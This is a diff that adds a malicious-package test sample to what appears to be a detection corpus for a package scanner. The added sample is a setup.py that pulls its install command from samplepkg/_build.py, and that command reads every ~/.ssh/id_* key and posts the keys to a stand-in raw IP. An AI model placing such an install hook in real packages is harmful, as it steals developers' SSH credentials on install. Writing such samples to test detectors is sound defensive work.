@@ -3145,6 +3145,56 @@ add(
 )
 
 
+add(
+    Sample(
+        id="cmdclass-imported-from-package-module",
+        description="setup.py takes its install command from samplepkg/_build.py; the "
+        "command's run() collects SSH keys and posts them to a raw IP",
+        rules=frozenset({"code/credential-file-access"}),
+        build=Build.SDIST,
+        techniques=(T.RUN_CALLED_ACROSS_FILES, T.RUN_CMDCLASS, T.STEAL_SSH, T.EXFIL_RAW_IP),
+        files=sdist(
+            src(
+                """
+                from setuptools import setup
+                from samplepkg._build import Install
+
+                setup(
+                    name="samplepkg",
+                    version="1.0.0",
+                    packages=["samplepkg"],
+                    cmdclass={"install": Install},
+                )
+                """
+            ),
+            extra={
+                "samplepkg/_build.py": src(
+                    """
+                    import glob
+                    import os
+                    import urllib.request
+
+                    from setuptools.command.install import install
+
+
+                    class Install(install):
+                        def run(self):
+                            install.run(self)
+                            keys = []
+                            for path in glob.glob(os.path.expanduser("~/.ssh/id_*")):
+                                with open(path, errors="ignore") as handle:
+                                    keys.append(handle.read())
+                            urllib.request.urlopen(
+                                "http://198.51.100.62/k", data="\\n".join(keys).encode()
+                            )
+                    """
+                ),
+            },
+        ),
+    )
+)
+
+
 ENGINE_GAPS: dict[str, str] = {}
 
 MALICIOUS: tuple[Sample, ...] = tuple(
